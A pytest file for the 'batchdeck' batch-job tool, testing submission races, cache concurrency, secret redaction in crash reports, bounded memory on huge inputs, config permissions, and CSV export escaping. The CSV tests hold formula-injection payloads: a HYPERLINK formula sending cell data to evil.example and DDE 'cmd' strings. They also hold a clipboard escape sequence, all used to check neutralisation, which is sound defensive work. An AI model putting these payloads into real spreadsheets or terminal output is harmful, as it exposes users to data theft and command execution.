"""Races and secrets (issue 12): two processes submitting one file, a TUI crash with a stored key, spreadsheet
formulas in CSV exports, a 300 MB request line, and a stored key in a world-readable config."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import multiprocessing
import os
import pty
import select
import sqlite3
import subprocess
import sys
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from rich.pretty import pretty_repr

from batchdeck.core.config import paths, toml_file
from batchdeck.core.jobs.send import SendCheckpoints
from batchdeck.core.jobs.submit import SubmitSource, plan_submit, submit
from batchdeck.core.session import Session
from batchdeck.core.store.db import Database
from batchdeck.core.store.job_repo import ContentClaimed, JobRepo
from batchdeck.core.store.migrations import MIGRATIONS
from batchdeck.core.workspace import Workspace
from batchdeck.emulator import Emulator
from tests.core.conftest import run_cli
from tests.core.jobs_helpers import client_batches, settle_after, write_requests
from tests.http_server import QuietHandler, serving
from tests.peak_rss import run_batchdeck

BATCHDECK = [sys.executable, "-m", "batchdeck"]
# As long as a real key (over 100 characters): a crash report that cuts strings at 80 still shows most of it.
KEY = "sk-ant-api03-RACES" + "Zq7Xw2Vb9Nc4Mk1Lp6Ot3Rs8Uy5Ed0Fg" * 2 + "Hj2Kd9Wm4Qx7Bn1Cv6Tz3Ry8Pa5Se0Lf-AAAAAA"
LEAKS = (KEY, KEY[:20], KEY[-12:])


def _read_until(proc: subprocess.Popen[bytes], marker: bytes, timeout: float = 60) -> bytes:
    """What `proc` wrote to its stdout pipe up to and including `marker`."""
    assert proc.stdout is not None
    seen = b""
    deadline = time.monotonic() + timeout
    while marker not in seen:
        ready, _, _ = select.select([proc.stdout], [], [], max(0.0, deadline - time.monotonic()))
        chunk = os.read(proc.stdout.fileno(), 4096) if ready else b""
        assert chunk, f"no {marker!r} from batchdeck; it wrote {seen!r}"
        seen += chunk
    return seen


# -- 1. double submission through the confirmation prompt -------------------------------------


@pytest.mark.slow
def test_a_prompt_answered_after_another_process_submitted_sends_nothing(
    home: Path, emulator: Emulator, tmp_path: Path
) -> None:
    """A waits at [y/N] on a terminal; B submits the same file with --yes; A's "y" creates nothing."""
    source = tmp_path / "requests.jsonl"
    write_requests(source, 6)
    terminal, their_end = pty.openpty()
    first = subprocess.Popen(
        [*BATCHDECK, "submit", str(source)], stdin=their_end, stdout=subprocess.PIPE, stderr=subprocess.PIPE
    )
    os.close(their_end)
    try:
        assert b"Submit 6 requests as 1 batch? [y/N]" in _read_until(first, b"[y/N]")
        second = subprocess.run(
            [*BATCHDECK, "submit", str(source), "--yes"], capture_output=True, text=True, timeout=60
        )
        assert second.returncode == 0 and second.stdout.startswith(f"{source}: 6 requests"), second.stderr
        assert "job-1: submitted; 1 batch created" in second.stdout
        os.write(terminal, b"y\n")
        _, err = first.communicate(timeout=60)
    finally:
        os.close(terminal)
        if first.poll() is None:
            first.kill()
    message = err.decode()
    assert first.returncode == 2
    assert message == (
        f"batchdeck: error: {source} was already submitted as job-1 (`batchdeck job show job-1`); "
        "pass --again to submit it a second time\n"
    )
    assert emulator.stats.calls("create") == 1 and len(client_batches(emulator)) == 1
    with Workspace.open() as ws:
        assert [j.id for j in ws.jobs.jobs()] == ["job-1"]


def _open_cache(path: str, go: Any, failed: Any) -> None:
    go.wait()
    try:
        Database(Path(path)).close()
    except Exception as exc:
        failed.put(str(exc))


def test_two_processes_opening_a_new_cache_at_once_both_open_it(tmp_path: Path) -> None:
    """The first start of two commands at once (cron's `watch` and the TUI on a new machine): both convert the new
    file to WAL, SQLite answers one of them "database is locked" without waiting, and that command used to fail.
    Twenty fresh caches, each opened by two processes released together (it failed about one round in four)."""
    ctx = multiprocessing.get_context("fork")
    failed = ctx.Queue()
    for round_number in range(20):
        go = ctx.Event()
        path = str(tmp_path / f"round-{round_number}" / "cache.db")
        procs = [ctx.Process(target=_open_cache, args=(path, go, failed)) for _ in range(2)]
        for proc in procs:
            proc.start()
        go.set()
        for proc in procs:
            proc.join(60)
        said = [failed.get_nowait() for _ in range(failed.qsize())] if not failed.empty() else []
        assert said == [], (round_number, said)
        assert [proc.exitcode for proc in procs] == [0, 0]
        assert sqlite3.connect(path).execute("PRAGMA journal_mode").fetchone()[0] == "wal"


def test_the_store_holds_one_ordinary_job_per_content(ws: Workspace) -> None:
    """The unique index, not only the check before it: a second claim of one content is refused; --again
    copies (no claim) and other profiles are not."""
    store = ws.jobs
    store.new_job("nightly", "/tmp/r.jsonl", "hash-a", 3, ws.now(), claim=True)
    with pytest.raises(ContentClaimed) as refused:
        store.new_job("nightly", "/tmp/r.jsonl", "hash-a", 3, ws.now(), claim=True)
    assert refused.value.job_id == "job-1"
    assert store.new_job("again", "/tmp/r.jsonl", "hash-a", 3, ws.now()).id == "job-2"
    assert JobRepo(ws.db, "other").new_job("nightly", None, "hash-a", 3, ws.now(), claim=True).id == "job-1"
    assert [j.id for j in store.jobs()] == ["job-2", "job-1"]


def test_the_migration_keeps_every_job_of_a_content_submitted_twice(tmp_path: Path) -> None:
    """A cache of schema 5 with two jobs of one content (`--again`): both stay, the oldest holds the claim."""
    path = tmp_path / "cache.db"
    old = sqlite3.connect(path)
    for script in MIGRATIONS[:5]:
        old.executescript(script)
    old.executemany(
        "INSERT INTO jobs (profile, id, name, source_file, content_hash, request_count, created_at) "
        "VALUES (?, ?, ?, ?, ?, ?, ?)",
        [
            ("default", "job-1", "a", None, "hash-a", 2, "2026-11-01T10:00:00.000000Z"),
            ("default", "job-2", "a again", None, "hash-a", 2, "2026-11-02T10:00:00.000000Z"),
            ("default", "job-3", "attached", None, None, 1, "2026-11-03T10:00:00.000000Z"),
            ("work", "job-1", "a", None, "hash-a", 2, "2026-11-04T10:00:00.000000Z"),
        ],
    )
    old.execute("PRAGMA user_version = 5")
    old.commit()
    old.close()
    db = Database(path)
    try:
        rows = db.conn.execute("SELECT profile, id, claimed_hash FROM jobs ORDER BY profile, id").fetchall()
        assert [tuple(r) for r in rows] == [
            ("default", "job-1", "hash-a"),
            ("default", "job-2", None),
            ("default", "job-3", None),
            ("work", "job-1", "hash-a"),
        ]
        with pytest.raises(ContentClaimed):
            JobRepo(db, "default").new_job("a", None, "hash-a", 2, "2026-11-05T10:00:00.000000Z", claim=True)
    finally:
        db.close()


class Killed(BaseException):
    """The process dies here (nothing catches it, as nothing catches SIGKILL)."""


def _killed() -> None:
    raise Killed


def test_an_interrupted_create_is_never_adopted_by_another_job(
    home: Path, emulator: Emulator, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Job 1 dies before its create reaches the API; job 2 (same size) dies after the API made its batch.
    Resumed, job 1 used to adopt job 2's batch (the only unclaimed one of its size above its anchor): its
    own rows were never sent and job 2's were sent twice. Every open create of the profile is now settled
    before anything is sent."""
    bodies = emulator.record_create_bodies()
    settle_after(0)
    first, second = tmp_path / "first.jsonl", tmp_path / "second.jsonl"
    write_requests(first, 10, prefix="first")
    write_requests(second, 10, prefix="second")
    for path, dies in ((first, SendCheckpoints(after_intent=_killed)), (second, SendCheckpoints(after_create=_killed))):
        with pytest.raises(Killed), Workspace.open() as ws:
            submit(ws, plan_submit(ws, SubmitSource(path)), checkpoints=dies)
    for path in (first, second, first, second):
        code, _, err = run_cli(capsys, "submit", str(path), "--yes")
        assert code in (0, 2), err  # 2: already submitted (done by the run before)
    sent = [r["custom_id"] for body in bodies.values() for r in json.loads(body)["requests"]]
    assert sorted(sent) == [f"first-{i:04d}" for i in range(10)] + [f"second-{i:04d}" for i in range(10)]
    assert len(client_batches(emulator)) == 2


# -- 10. CSV cells a spreadsheet would run as formulas -----------------------------------------

BATCH_ID = "msgbatch_01FormulaCells"
STAMP = "2026-11-01T12:00:00.000000Z"


def _succeeded(custom_id: str, text: str) -> dict[str, Any]:
    return {
        "custom_id": custom_id,
        "result": {
            "type": "succeeded",
            "message": {
                "id": f"msg_{custom_id.strip('-')}",
                "type": "message",
                "role": "assistant",
                "model": "claude-haiku-4-5",
                "content": [{"type": "text", "text": text}],
                "stop_reason": "end_turn",
                "stop_sequence": None,
                "usage": {"input_tokens": 12, "output_tokens": 7},
            },
        },
    }


FORMULA_ROWS = [
    _succeeded("eq", '=HYPERLINK("http://evil.example/?"&A1,"click")'),
    _succeeded("plus", "+1+cmd|' /C calc'!A0"),
    _succeeded("minus", "-2+3"),
    _succeeded("at", "@SUM(1,2)"),
    _succeeded("tab", "\t=1+1"),
    _succeeded("cr", "\r=1+1"),
    _succeeded("-leading-dash", "a plain answer"),
    _succeeded("plain", "billing: it is fine = good"),
    {
        "custom_id": "err",
        "result": {
            "type": "errored",
            "error": {"type": "error", "error": {"type": "invalid_request_error", "message": "=cmd|' /C calc'!A0"}},
        },
    },
]
RESULTS_BODY = b"".join(json.dumps(r, ensure_ascii=False, separators=(",", ":")).encode() + b"\n" for r in FORMULA_ROWS)


def _batch(base_url: str) -> dict[str, Any]:
    counts = {"processing": 0, "succeeded": 8, "errored": 1, "canceled": 0, "expired": 0}
    return {
        "id": BATCH_ID,
        "type": "message_batch",
        "processing_status": "ended",
        "request_counts": counts,
        "created_at": STAMP,
        "ended_at": STAMP,
        "expires_at": "2026-11-02T12:00:00.000000Z",
        "cancel_initiated_at": None,
        "archived_at": None,
        "results_url": f"{base_url}/v1/messages/batches/{BATCH_ID}/results",
    }


class _OneBatchApi(QuietHandler):
    """A minimal Batches API holding one ended batch whose results are chosen by the test."""

    def do_GET(self) -> None:
        base = self.server.base_url  # type: ignore[attr-defined]  # a tests.http_server.Server
        path = self.path.split("?", 1)[0]
        if path == "/v1/messages/batches":
            body = json.dumps(
                {"data": [_batch(base)], "has_more": False, "first_id": BATCH_ID, "last_id": BATCH_ID}
            ).encode()
            self._send(200, "application/json", body)
        elif path == f"/v1/messages/batches/{BATCH_ID}":
            self._send(200, "application/json", json.dumps(_batch(base)).encode())
        elif path == f"/v1/messages/batches/{BATCH_ID}/results":
            self._send(200, "application/x-jsonl", RESULTS_BODY)
        else:
            self._send(404, "application/json", b'{"type":"error","error":{"type":"not_found_error","message":"no"}}')

    def _send(self, status: int, kind: str, body: bytes) -> None:
        self.send_body(status, body, kind, request_id="req_fake")


@contextmanager
def one_batch_api() -> Iterator[str]:
    with serving(_OneBatchApi) as server:
        yield server.base_url


def test_csv_cells_that_spreadsheets_would_run_are_neutralised(
    home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    with one_batch_api() as base_url:
        monkeypatch.setenv("ANTHROPIC_BASE_URL", base_url)
        assert run_cli(capsys, "sync")[0] == 0
        for fmt in ("csv", "jsonl"):
            code, _, err = run_cli(capsys, "export", BATCH_ID, "--format", fmt, "-o", str(tmp_path / f"out.{fmt}"))
            assert code == 0, err
    with open(tmp_path / "out.csv", newline="", encoding="utf-8") as fh:
        rows = {r["custom_id"]: r for r in csv.DictReader(fh)}
    texts = {cid: row["text"] for cid, row in rows.items()}
    assert texts == {
        "eq": '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
        "plus": "'+1+cmd|' /C calc'!A0",
        "minus": "'-2+3",
        "at": "'@SUM(1,2)",
        "tab": "'\t=1+1",
        "cr": "'\r=1+1",
        "'-leading-dash": "a plain answer",
        "plain": "billing: it is fine = good",
        "err": "",
    }
    assert rows["err"]["error_message"] == "'=cmd|' /C calc'!A0"
    assert rows["plain"]["input_tokens"] == "12" and rows["plain"]["error_type"] == ""
    assert (tmp_path / "out.jsonl").read_bytes() == RESULTS_BODY  # the raw export stays exact


# -- 5. a TUI crash with a stored key -----------------------------------------------------------


def _store_key(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, base_url: str) -> None:
    """`batchdeck profile add stored --store-key`, the key typed on stdin."""
    monkeypatch.setattr(sys, "stdin", io.StringIO(KEY + "\n"))
    assert run_cli(capsys, "profile", "add", "stored", "--store-key", "--base-url", base_url)[0] == 0


def test_a_stored_key_is_in_no_repr(
    home: Path, emulator: Emulator, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    _store_key(capsys, monkeypatch, emulator.base_url)
    config = toml_file.load()
    profile = config.profile("stored")
    assert profile.resolve_key() == KEY  # still there for the client
    shown = [
        repr(profile),
        str(profile),
        f"{profile}",
        repr(config),
        pretty_repr(config),
        pretty_repr(profile),
        repr(profile.api_key),
        f"{profile.api_key}",
        repr(vars(Session(config, profile))),
    ]
    for text in shown:
        assert not any(leak in text for leak in LEAKS), text
    assert "Secret('[hidden]')" in repr(profile) and "api_key_env='ANTHROPIC_API_KEY'" in repr(profile)


@pytest.mark.anyio
@pytest.mark.parametrize("debug", [False, True])
async def test_a_tui_crash_shows_no_key(
    home: Path, emulator: Emulator, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, debug: bool
) -> None:
    """A handler raises while the profile is one of its locals (as on_data_loaded has it), with the key in
    the error's text too (as an echoed header would put it): the report reaches the terminal, one line (the
    traceback only with BATCHDECK_DEBUG=1), and the key does not."""
    from batchdeck.tui.app import BatchdeckApp

    _store_key(capsys, monkeypatch, emulator.base_url)
    monkeypatch.delenv("ANTHROPIC_API_KEY")
    if debug:
        monkeypatch.setenv("BATCHDECK_DEBUG", "1")
    config = toml_file.load()
    app = BatchdeckApp(Session(config, config.profile("stored")), poll=False)

    def show_data(*args: object) -> None:
        raise RuntimeError(f"the list could not be drawn (x-api-key: {KEY}) \x1b]52;c;cHdu\x07")

    app.main.show_data = show_data  # type: ignore[method-assign]
    with pytest.raises(RuntimeError, match="could not be drawn"):
        async with app.run_test() as pilot:
            while app._exception is None:
                await asyncio.sleep(0.01)
            await pilot.pause()
    out, err = capsys.readouterr()
    report = out + err
    assert not any(leak in report.replace("\n", "") for leak in LEAKS), report  # nor cut across lines
    assert "\x1b" not in report and "\x07" not in report
    if debug:
        assert "Traceback (most recent call last)" in report and "in on_data_loaded" in report
        assert "RuntimeError: the list could not be drawn (x-api-key: [redacted]) ␛]52;c;cHdu␇" in report
    else:
        assert report == (
            "batchdeck: error: internal error in the TUI (RuntimeError: the list could not be drawn "
            "(x-api-key: [redacted]) ␛]52;c;cHdu␇); rerun with BATCHDECK_DEBUG=1 and report it\n"
        )


# -- 16. one request line of 300 MB ------------------------------------------------------------


def test_a_line_longer_than_a_batch_is_refused_in_bounded_memory(home: Path, tmp_path: Path) -> None:
    """300 MB of one request's text (a sparse file: written at once, read at disk-cache speed) between two
    good lines: refused while reading, naming the line, and the process stays small."""
    source = tmp_path / "huge.jsonl"
    good = write_requests(tmp_path / "good.jsonl", 2)
    head = good[1].split(b'"content": "')[0] + b'"content": "'
    with open(source, "wb") as fh:
        fh.write(good[0] + b"\n" + head)
        fh.seek(300_000_000, os.SEEK_CUR)
        fh.write(b'"}]}}\n' + good[1] + b"\n")
    length = len(head) + 300_000_000 + len(b'"}]}}')
    huge = run_batchdeck("submit", str(source), "--dry-run")
    small = run_batchdeck("submit", str(tmp_path / "good.jsonl"), "--dry-run")
    print(
        f"peak RSS: {huge.peak_bytes / 2**20:.1f} MiB with the 300 MB line, {small.peak_bytes / 2**20:.1f} MiB "
        "for two small lines"
    )
    assert huge.code == 2 and huge.stdout == ""
    assert huge.stderr == (
        f"batchdeck: error: {source}: 1 bad line; nothing was submitted\n"
        f"  line 2: the line is {length:,} bytes, more than one batch can hold "
        "(256,000,000 bytes)\n"
    )
    assert small.code == 0
    assert huge.peak_bytes < 100 * 2**20 and huge.peak_bytes < small.peak_bytes + 16 * 2**20


# -- 17. a stored key in a config others can read ---------------------------------------------


def test_a_stored_key_in_a_config_others_can_read_is_warned_about_and_made_private(
    home: Path, emulator: Emulator, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    assert run_cli(capsys, "config", "set", "watch.interval", "45")[0] == 0
    config_file, config_dir = paths.config_file(), paths.config_file().parent
    os.chmod(config_file, 0o644)
    os.chmod(config_dir, 0o755)
    assert run_cli(capsys, "profile", "list")[2] == ""  # no key in it: nothing to protect, left as it is
    assert _mode(config_file) == 0o644 and _mode(config_dir) == 0o755
    _store_key(capsys, monkeypatch, emulator.base_url)
    os.chmod(config_file, 0o644)  # as a copy between machines, or a restore from a backup, may leave it
    code, out, err = run_cli(capsys, "profile", "list")
    assert code == 0 and "stored in config" in out
    assert err == (
        f"batchdeck: warning: config file {config_file} holds an API key and others could read it "
        f"({config_file} was 0644 and {config_dir} was 0755); made private (0600, directory 0700)\n"
    )
    assert _mode(config_file) == 0o600 and _mode(config_dir) == 0o700
    assert run_cli(capsys, "profile", "list")[2] == ""  # said once: it is private now
    os.chmod(config_file, 0o640)
    assert run_cli(capsys, "profile", "list")[2].count("\n") == 1 and _mode(config_file) == 0o600


def _mode(path: Path) -> int:
    return os.stat(path).st_mode & 0o777
